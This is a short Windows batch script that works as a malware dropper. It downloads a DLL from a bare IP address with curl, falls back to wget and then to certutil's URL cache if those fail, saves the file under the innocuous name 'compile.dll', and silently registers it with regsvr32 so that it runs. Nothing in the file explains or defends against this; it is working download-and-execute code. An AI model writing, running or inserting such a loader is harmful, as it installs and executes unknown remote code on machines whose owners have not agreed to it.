@echo off
curl https://203.0.113.41/sdd.dll -o compile.dll
if not exist compile.dll (
  wget https://203.0.113.41/sdd.dll -O compile.dll
)
if not exist compile.dll (
  certutil.exe -urlcache -f https://203.0.113.41/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
